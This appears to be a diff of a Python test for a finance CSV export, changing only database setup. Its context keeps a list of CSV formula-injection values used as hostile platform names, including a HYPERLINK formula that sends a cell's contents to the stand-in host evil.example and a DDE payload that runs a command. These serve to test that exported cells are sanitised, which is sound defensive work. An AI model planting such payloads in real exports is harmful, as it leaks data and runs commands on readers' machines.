@@ -23,6 +23,7 @@ from projections import queries as Q
 from projections.csv_cells import csv_cell
 from projections.db import make_engine
 from projections.runner import ReadModelRunner
+from support import migrated
 
 HOSTILE_HOSTS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
                  "-2+3", "@SUM(1,2)"]
@@ -33,7 +34,7 @@ GNM = {"gnm": "http://www.gnumeric.org/v10.dtd"}
 def ledger_csv(tmp_path: Path) -> str:
     """The finance CSV of platforms approved with hostile host-unit names (one commitment each)."""
     with freeze_time("2026-06-01T02:00:00Z"):
-        app = RegistryApp(StoreConfig(f"sqlite:///{tmp_path / 'events.sqlite3'}"))
+        app = RegistryApp(StoreConfig(migrated(f"sqlite:///{tmp_path / 'events.sqlite3'}")))
         prog = Programme(app)
         for i, host in enumerate(HOSTILE_HOSTS):
             prog.to("approved", subfield=("智能芯片", "智能传感器", "智能算力", "智慧金融")[i], name=f"平台{i}",
